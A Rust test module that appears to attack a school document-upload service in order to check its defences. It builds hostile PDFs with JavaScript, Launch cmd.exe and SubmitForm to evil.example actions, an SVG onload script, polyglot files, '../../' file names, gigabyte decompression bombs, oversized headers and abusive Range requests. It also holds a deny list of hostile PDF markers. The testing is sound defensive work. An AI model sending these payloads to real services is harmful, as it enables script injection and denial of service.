//! Files that are disguised, too large, or too large once unpacked.

use std::io::Write;

use reqwest::StatusCode;

use crate::support::{self, Actor, PDF};
use crate::table::{Plan, Row};
use crate::target::Target;

const SCRIPT: &[u8] = b"<html><script>alert(document.domain)</script>";

pub async fn attack(plan: Plan) -> Vec<Row> {
    let target = Target::start(&[
        ("SCHOOLHOUSE_LIMITS_UPLOADS_PER_HOUR", "1000000"),
        ("SCHOOLHOUSE_DOCUMENTS_FILES_PER_STUDENT", "1000"),
    ])
    .await;
    let (student, _) = target.student("amara").await;
    vec![
        hostile(plan, &target, &student).await,
        bombs(plan, &target, &student).await,
        oversized(plan, &target, &student).await,
        ranges(plan, &target, &student).await,
    ]
}

fn pdf_with(entries: &str) -> Vec<u8> {
    support::pdf_with("/Type/Catalog", &format!("/Type/Catalog {entries}"))
}

/// A PDF that draws one stream more, of these entries and bytes. Its table does not know it: readers mend that.
fn pdf_stream(entries: &str, content: &[u8]) -> Vec<u8> {
    let pdf = support::pdf_with("/Contents 4 0 R", "/Contents[4 0 R 5 0 R 7 0 R]");
    let at = pdf.windows(4).position(|word| word == b"xref").unwrap();
    let head = format!("5 0 obj\n<< /Length {} {entries} >>\nstream\n", content.len());
    [&pdf[..at], head.as_bytes(), content, b"\nendstream\nendobj\n", &pdf[at..]].concat()
}

fn chunk(kind: [u8; 4], content: &[u8]) -> Vec<u8> {
    let mut sum = flate2::Crc::new();
    sum.update(&kind);
    sum.update(content);
    [&(content.len() as u32).to_be_bytes()[..], &kind, content, &sum.sum().to_be_bytes()].concat()
}

fn png(width: u32, height: u32, packed: &[u8]) -> Vec<u8> {
    let size = [&width.to_be_bytes()[..], &height.to_be_bytes(), &[8, 0, 0, 0, 0]].concat();
    [&b"\x89PNG\r\n\x1a\n"[..], &chunk(*b"IHDR", &size), &chunk(*b"IDAT", packed), &chunk(*b"IEND", b"")]
        .concat()
}

fn packed(content: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(content).unwrap();
    encoder.finish().unwrap()
}

/// What no file that is kept may hold.
const TRAITORS: &[&[u8]] = &[
    b"JavaScript",
    b"/JS",
    b"app.alert",
    b"Launch",
    b"cmd.exe",
    b"Embedded",
    b"SubmitForm",
    b"XFA",
    b"RichMedia",
    b"<script>",
];

/// What a stream of objects may not be any more once a page draws it.
const DRAWN_TRAITORS: &[&[u8]] = &[b"ObjStm", b"OpenAction", b"/AA"];

/// Each is refused and leaves nothing, or is kept without what is hostile; what is stored is safe to open.
async fn hostile(plan: Plan, target: &Target, student: &Actor) -> Row {
    let mut row = Row::new("hostile uploads");
    let script = "/S /JavaScript /JS (app.alert(1))";
    let files: Vec<(&str, Vec<u8>)> = vec![
        ("page.pdf", SCRIPT.to_vec()),
        ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec()),
        ("page behind.pdf", [PDF, SCRIPT].concat()),
        ("page before.pdf", [SCRIPT, PDF].concat()),
        ("archive behind.pdf", [PDF, b"PK\x05\x06\0\0\0\0\x01\0\x01\0"].concat()),
        ("program.pdf", b"MZ\x90\0\x03".repeat(200)),
        ("elf.png", b"\x7FELF\x02\x01\x01".repeat(200)),
        ("gif.jpg", b"GIF89a/*<script>*/=1;".to_vec()),
        ("zip.pdf", b"PK\x03\x04".repeat(200)),
        ("script.pdf", pdf_with(&format!("/OpenAction << {script} >>"))),
        ("escaped.pdf", pdf_with("/OpenAction << /S /J#61vaScript /JS (x) >>")),
        ("launch.pdf", pdf_with("/OpenAction << /S /Launch /F (cmd.exe) >>")),
        ("submit.pdf", pdf_with("/OpenAction << /S /SubmitForm /F (http://evil.example) >>")),
        ("attachment.pdf", pdf_with("/Names << /EmbeddedFiles << /Names [] >> >>")),
        ("form.pdf", pdf_with("/AcroForm << /XFA [] >>")),
        ("media.pdf", pdf_with("/X << /Subtype /RichMedia >>")),
        ("elsewhere.pdf", pdf_with("/OpenAction << /S /GoToR /F (x.pdf) >>")),
        ("locked.pdf", support::pdf_with("/Root", "/Encrypt 9 0 R/Root")),
        ("hidden.pdf", pdf_stream("", format!("7 0 obj << {script} >> endobj ").repeat(50).as_bytes())),
        (
            "packed.pdf",
            pdf_stream(
                "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
                &packed(format!("7 0 << {script} >>").as_bytes()),
            ),
        ),
        ("short.png", png(10, 10, &packed(&[0; 5]))),
        ("cut.png", png(10, 10, &packed(&[0; 110]))[..40].to_vec()),
        ("half.pdf", PDF[..PDF.len() / 2].to_vec()),
        ("nothing.pdf", Vec::new()),
        ("jpeg.jpg", [&b"\xFF\xD8\xFF\xE0"[..], &[0x41; 500]].concat()),
    ];
    for (name, bytes) in plan.some(files, 2) {
        let is_drawn = name == "packed.pdf";
        for name in [name, "../../x.pdf", "harmless.png"] {
            let stored = || target.count("select count(*) from student_documents");
            let before = stored();
            let answer = student.upload("other", name, bytes.clone()).await;
            if answer.status.is_client_error() {
                row.tried(stored() == before, || format!("{name} is refused, and something of it was kept"));
                continue;
            }
            let path = format!("/api/documents/{}", answer.json()["id"]);
            let kept = student.get(&path).await.bytes;
            // It is drawn by the page: there its objects are instructions that no reader knows, and are not run.
            let traitors = if is_drawn { DRAWN_TRAITORS } else { TRAITORS };
            let traitor =
                traitors.iter().find(|word| kept.windows(word.len()).any(|window| window == **word));
            row.tried(answer.status == StatusCode::CREATED && traitor.is_none(), || {
                format!("{name}: {} {traitor:?} {}", answer.status, answer.text())
            });
        }
    }
    let left = std::fs::read_dir(target.path().join("tmp")).unwrap().count();
    row.check(left == 0, || format!("{left} files are left behind"));
    row
}

/// A few kilobytes that unpack to a gigabyte; afterwards the server has the memory that it had.
async fn bombs(plan: Plan, target: &Target, student: &Actor) -> Row {
    let mut row = Row::new("files that unpack to a gigabyte");
    // Beside the other attacks, whose connections would else wait for it.
    let pack = move || {
        let zeros = packed(&vec![0; plan.pick(1024, 160) * 1024 * 1024]);
        let twice = packed(&zeros);
        (zeros, twice)
    };
    let (zeros, twice) = tokio::task::spawn_blocking(pack).await.unwrap();
    let files: Vec<(&str, Vec<u8>)> = vec![
        ("flate.pdf", pdf_stream("/Filter /FlateDecode", &zeros)),
        ("twice.pdf", pdf_stream("/Filter [/FlateDecode /FlateDecode]", &twice)),
        ("objects.pdf", pdf_stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &zeros)),
        ("large.png", png(60_000, 60_000, &zeros)),
        ("wide.png", png(u32::MAX >> 1, 1, &zeros)),
        ("small.png", png(8, 8, &zeros)),
        ("deep.pdf", pdf_with(&"[".repeat(200_000))),
        ("many.pdf", pdf_stream("", &b"1 0 obj<<>>endobj ".repeat(400_000))),
    ];
    for (name, bytes) in plan.some(files, 2) {
        let sent = bytes.len() as u64;
        let answer = student.upload("other", name, bytes).await;
        // A picture with data after its last row is re-encoded without it.
        let is_small = || answer.json()["sizeBytes"].as_u64().is_some_and(|size| size <= sent);
        let held = answer.status.is_client_error() || (answer.status == StatusCode::CREATED && is_small());
        row.tried(held, || format!("{name}: {} {}", answer.status, answer.text()));
        let memory = peak_mib(target);
        row.check(memory < 700.0, || format!("{name}: {memory:.0} MiB at most"));
    }
    let memory = peak_mib(target);
    row.check(target.is_well().await, || "the server is not well".into());
    row.noted(format!("at most {memory:.0} MiB of memory"))
}

/// The most memory that the server had.
fn peak_mib(target: &Target) -> f64 {
    let status = std::fs::read_to_string(format!("/proc/{}/status", target.program.child.id())).unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap();
    line.trim().trim_end_matches(" kB").parse::<f64>().unwrap() / 1024.0
}

/// Bodies and headers beyond every size.
async fn oversized(plan: Plan, target: &Target, student: &Actor) -> Row {
    let mut row = Row::new("oversized bodies, headers and addresses");
    let visitor = target.visitor();
    for size in plan.some(vec![70_000, 1 << 20, 8 << 20, 40 << 20], 2) {
        let text = "x".repeat(size);
        let request = visitor.message("Amara", "amara@mail.example", &text);
        // The server may hang up before it has read all of it.
        let is_refused = |answer: reqwest::Result<crate::support::Answer>| {
            answer.map_or(true, |answer| answer.status == StatusCode::PAYLOAD_TOO_LARGE)
        };
        row.tried(is_refused(visitor.attempt(request).await), || {
            format!("a message of {size} bytes was taken")
        });
        let upload = student.document("other", "large.pdf", [PDF, &vec![b' '; size + (10 << 20)]].concat());
        row.tried(is_refused(student.attempt(upload).await), || {
            format!("a file of 10 MB and {size} was taken")
        });
    }
    for (kind, words) in [
        ("address", format!("GET /{} HTTP/1.1\r\nhost: x\r\n\r\n", "x".repeat(200_000))),
        ("header", format!("GET /healthz HTTP/1.1\r\nhost: x\r\nx: {}\r\n\r\n", "x".repeat(1_000_000))),
        ("headers", format!("GET /healthz HTTP/1.1\r\nhost: x\r\n{}\r\n", "x: y\r\n".repeat(2_000))),
        (
            "cookie",
            format!(
                "GET /api/user HTTP/1.1\r\nhost: x\r\ncookie: {}\r\nconnection: close\r\n\r\n",
                "a=b; ".repeat(2_000)
            ),
        ),
    ] {
        let answer = crate::wire::exchange(target.address(), words.as_bytes()).await;
        let is_refused = answer.is_empty() || answer.starts_with("HTTP/1.1 4");
        row.tried(is_refused, || format!("{kind}: {}", &answer[..answer.len().min(80)]));
    }
    let left = std::fs::read_dir(target.path().join("tmp")).unwrap().count();
    row.check(left == 0, || format!("{left} files are left behind"));
    row.check(target.is_well().await, || "the server is not well".into());
    row
}

/// Parts of a document that cost more than all of it.
async fn ranges(plan: Plan, target: &Target, student: &Actor) -> Row {
    let mut row = Row::new("ranges that ask for more than there is");
    let made = student.upload("other", "a.pdf", PDF.to_vec()).await.expect(StatusCode::CREATED).json();
    let path = format!("/api/documents/{}", made["id"]);
    let many = (0..1_000).map(|_| "0-").collect::<Vec<_>>().join(",");
    let ranges = [
        "0-0",
        "0-",
        "-1",
        "5-1",
        "99999999999999999999-",
        "-99999999999999999999",
        "a-b",
        &*format!("bytes {many}"),
        &many,
    ];
    for _ in 0..plan.pick(20, 1) {
        for range in ranges {
            for path in [&*path, "/", "/favicon.svg"] {
                let request = student.request("GET", path).header("range", format!("bytes={range}"));
                let answer = student.send(request).await;
                let is_bounded = answer.bytes.len() < 100_000 && !answer.status.is_server_error();
                row.tried(is_bounded, || format!("{path} {range}: {} {}", answer.status, answer.bytes.len()));
            }
        }
    }
    row.check(target.is_well().await, || "the server is not well".into());
    row
}
